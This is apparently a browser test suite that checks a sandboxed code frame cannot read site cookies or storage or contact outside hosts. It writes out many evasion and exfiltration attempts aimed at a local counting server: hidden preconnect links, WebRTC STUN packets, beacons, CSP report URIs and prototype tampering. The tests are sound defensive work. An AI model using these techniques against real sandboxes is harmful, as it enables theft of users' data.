import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { afterAll, beforeAll, beforeEach, describe } from 'vitest';
import { listen } from '../../tools/lib/port.mjs';
import { hasRun, printedBy, sandboxWith } from '../fixture/sandbox.ts';
import { expect } from '../fixture/test.ts';
import { test } from '../fixture/whole-browser.ts';

/** Another host, which counts who comes. */
let server: Server;
/** The same for packets of UDP, which WebRTC sends. */
let listener: Socket;
let elsewhere = '';
let visitors: string[] = [];

beforeAll(async () => {
  listener = createSocket('udp4').on('message', () => visitors.push('udp'));
  await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
  server = createServer((request, response) => {
    visitors.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').end('hello');
  });
  // A preconnection sends no request.
  server.on('connection', () => visitors.push('connection'));
  elsewhere = await listen(server);
});

afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(resolve));
  await new Promise((resolve) => server.close(resolve));
});

beforeEach(() => {
  visitors = [];
});

/** Runs each attempt, and prints what came of it. */
const attempts = (list: Readonly<Record<string, string>>): string =>
  `const attempt = async (name, act) => {
    try { console.log(name, String(await act())); } catch (error) { console.log(name, 'barred:', error.name); }
  };
  ${Object.entries(list)
    .map(([name, code]) => `attempt(${JSON.stringify(name)}, async () => ${code});`)
    .join('\n')}`;

/** Takes the policies of the headers away, as a host does that sends none. */
const withoutHeaders = (page: Page) =>
  page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    const { 'content-security-policy': _, ...headers } = response.headers();
    return route.fulfill({ response, headers });
  });

describe('code in a frame', () => {
  test('can’t read the site’s data', async ({ site }) => {
    const page = await site.open(
      await sandboxWith(
        attempts({
          cookie: 'document.cookie',
          storage: "localStorage.getItem('secret')",
          parent: 'parent.document.title',
          top: 'top.document.title',
          'parent storage': 'parent.localStorage.secret',
          origin: 'self.origin',
          databases: 'indexedDB.databases()',
          caches: 'caches.keys()',
        }),
      ),
      {
        storage: { secret: 'secret' },
        prepare: (page) =>
          page.context().addCookies([{ name: 'secret', value: 'secret', url: site.origin }]),
      },
    );
    await hasRun(page);
    await expect.poll(() => printedBy(page)).toHaveLength(8);
    const printed = (await printedBy(page)).sort();
    // The frame is its own parent, so that no message gets past the port by accident.
    expect(printed).toEqual([
      'caches barred: SecurityError',
      'cookie barred: SecurityError',
      'databases barred: SecurityError',
      'origin null',
      'parent Preview',
      'parent storage undefined',
      'storage null',
      'top barred: SecurityError',
    ]);
  });

  test.for([
    ['with the headers of the site', true],
    ['on a host that sends no headers', false],
  ] as const)(
    'can’t reach any host or navigate the page, %s',
    async ([, withHeaders], { site }) => {
      site.allowProblem(
        /localhost|Content Security Policy|sandbox|navigat/i,
        'each attempt is reported',
      );
      const page = await site.open(
        await sandboxWith(
          attempts({
            fetch: `(await fetch('${elsewhere}/fetch')).text()`,
            'the site': `(await fetch('${site.origin}/docs/intro')).text()`,
            beacon: `navigator.sendBeacon('${elsewhere}/beacon', 'x') && 'queued'`,
            picture: `new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error()); i.src = '${elsewhere}/picture'; })`,
            socket: `new Promise((done, fail) => { const s = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); s.onopen = done; s.onerror = () => fail(new Error()); })`,
            preconnect: `{ document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${elsewhere}' })); }`,
            'preconnect in HTML': `{ document.body.insertAdjacentHTML('beforeend', '<LINK\\nrel=preconnect href="${elsewhere}">'); }`,
            'preconnect in a shadow tree': `{ const host = document.createElement('p'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<link rel=preconnect href="${elsewhere}">'; }`,
            'preconnect in a fragment': `{ document.body.append(document.createRange().createContextualFragment('<template><link rel=preconnect href="${elsewhere}"></template>').firstChild.content); }`,
            'preconnect in a parsed document': `{ document.body.append(document.adoptNode(new DOMParser().parseFromString('<link rel=preconnect href="${elsewhere}">', 'text/html').head)); }`,
            'preconnect in parsed XML': `{ document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY b "&#60;&#108;ink rel=\\'preconnect\\' href=\\'${elsewhere}\\'/>">]><a xmlns="http://www.w3.org/1999/xhtml">&b;<template>&b;</template></a>', 'text/xml').documentElement)); }`,
            'preconnect in an XML document': `{ const made = new Document(); const root = made.createElementNS('http://www.w3.org/1999/xhtml', 'p'); made.append(root); root.innerHTML = '<a:link xmlns:a="http://www.w3.org/1999/xhtml" rel="preconnect" href="${elsewhere}"/>'; document.body.append(root); }`,
            'preconnect with a prefix': `{ const made = document.createElementNS('http://www.w3.org/1999/xhtml', 'a:link'); made.setAttribute('rel', 'preconnect'); made.setAttribute('href', '${elsewhere}'); document.body.append(made); }`,
            'preconnect in a made document': `{ const { documentElement: made } = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); made.setAttribute('rel', 'preconnect'); made.setAttribute('href', '${elsewhere}'); document.body.append(made); }`,
            'preconnect of a class': `{ class Link extends HTMLLinkElement {} customElements.define('a-link', Link, { extends: 'link' }); document.body.append(Object.assign(new Link(), { rel: 'preconnect', href: '${elsewhere}' })); }`,
            'preconnect with methods replaced': `{ RegExp.prototype.exec = () => null; String.prototype.slice = () => ''; const div = document.createElement('div'); let times = 0; div.innerHTML = { toString: () => times++ === 0 ? '' : '<link rel=preconnect href="${elsewhere}">' }; div.innerHTML = '<link rel=preconnect href="${elsewhere}">'; document.body.append(div); }`,
            'link prefetch': `{ document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${elsewhere}/prefetch' })); }`,
            'module preload': `{ document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: '${elsewhere}/preload' })); }`,
            stylesheet: `{ document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(${elsewhere}/import);@font-face{font-family:x;src:url(${elsewhere}/font)}body{font-family:x;background:url(${elsewhere}/background)}' })); }`,
            report: `{ document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "connect-src 'none'; report-uri ${elsewhere}/report" })); }`,
            events: `new Promise((done, fail) => { const e = new EventSource('${elsewhere}/events'); e.onopen = done; e.onerror = () => fail(new Error()); })`,
            worker: `new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/worker')"]))); w.onerror = () => fail(new Error()); })`,
            ping: `{ const a = Object.assign(document.createElement('a'), { href: '#ping', ping: '${elsewhere}/ping' }); document.body.append(a); a.click(); }`,
            video: `{ document.body.append(Object.assign(document.createElement('video'), { src: '${elsewhere}/video' })); }`,
            rules: `{ document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['${elsewhere}/rules'] }] }) })); }`,
            script: `new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = () => fail(new Error()); s.src = '${elsewhere}/script'; document.head.append(s); })`,
            module: `import('${elsewhere}/module')`,
            frame: `new Promise((done) => { const f = document.createElement('iframe'); f.src = '${elsewhere}/frame'; f.onload = () => done('empty'); document.body.append(f); })`,
            top: `{ top.location.href = '${elsewhere}/top'; }`,
            popup: `window.open('${elsewhere}/popup') ?? 'no window'`,
            form: `{ const f = document.createElement('form'); f.action = '${elsewhere}/form'; document.body.append(f); f.submit(); }`,
          }),
        ),
        { violates: true, ...(withHeaders ? {} : { prepare: withoutHeaders }) },
      );
      await hasRun(page);
      await page.waitForTimeout(1500);
      expect(visitors).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/sandbox');
      expect((await printedBy(page)).join('\n')).not.toMatch(/hello|doctype/);
    },
  );

  test('sends no packet by WebRTC, not even from documents or shadow trees that it adds', async ({
    site,
  }) => {
    site.allowProblem(/Content Security Policy|Blocked a frame/i, 'each attempt is reported');
    const call = `(function () {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${listener.address().port}' }] });
      peer.createDataChannel('data');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    })()`;
    const html = `<iframe srcdoc="&lt;script&gt;${call.replaceAll('"', '&quot;')}&lt;/script&gt;"></iframe>`;
    const shadow = `<p><template shadowrootmode="open">${html}</template></p>`;
    const text = (value: string) => JSON.stringify(value);
    const frame = `Object.assign(document.createElement('iframe'), { srcdoc: ${text(`<script>${call}</script>`)} })`;
    const page = await site.open(
      await sandboxWith(
        attempts({
          'in its own window': call,
          'by the older name': call.replace('RTCPeer', 'webkitRTCPeer'),
          'with the window of an empty frame': `{ const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection(); }`,
          'in a frame with a text': `document.body.append(${frame})`,
          'in a frame with a script as its address': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'javascript:' + ${text(call)} }))`,
          'in HTML': `{ document.querySelector('#root').insertAdjacentHTML('beforeend', ${text(html)}); }`,
          'in SVG': `{ document.querySelector('#root').insertAdjacentHTML('beforeend', ${text(`<svg><foreignObject>${html}</foreignObject></svg>`)}); }`,
          'in an object': `document.body.append(Object.assign(document.createElement('object'), { type: 'text/html', data: 'data:text/html,' + encodeURIComponent(${text(`<script>${call}</script>`)}) }))`,
          'in a closed shadow tree': `{ const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).append(${frame}); }`,
          'in shadow trees of HTML': `{ const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe(${text(shadow)}); }`,
          'in shadow trees of another document': `document.body.append(Document.parseHTMLUnsafe(${text(shadow)}).body)`,
          'in what the parser writes': `document.write(${text(shadow + html)})`,
          'with methods replaced': `{
            Element.prototype.remove = () => {};
            Document.prototype.querySelectorAll = () => [];
            NodeList.prototype.item = () => null;
            MutationObserver.prototype.observe = () => {};
            document.body.append(${frame});
          }`,
        }),
      ),
      { violates: true },
    );
    await hasRun(page);
    await page.waitForTimeout(2500);
    expect(await printedBy(page)).toHaveLength(13);
    expect(visitors).toEqual([]);
  });

  test('has no origin of its own, not even when its page is opened by itself', async ({ site }) => {
    const manifest = await (await fetch(`${site.origin}/play/manifest.json`)).json();
    const page = await site.open(`/play/${manifest.frame}`, {
      ready: 'loaded',
      storage: { secret: 'secret' },
    });
    expect(await page.evaluate(() => self.origin)).toBe('null');
  });

  test('carries nothing out by leaving its page', async ({ site }) => {
    site.allowProblem(/localhost|Content Security Policy|frame/i, 'the attempt is reported');
    const page = await site.open(await sandboxWith(`location.href = '${elsewhere}/leave';`), {
      violates: true,
    });
    // The attempt is over once the page says that the code has left, or that it stopped.
    await page.locator('[data-fault]').waitFor({ timeout: 20_000 });
    await page.waitForTimeout(500);
    expect(visitors).toEqual([]);
  });
});
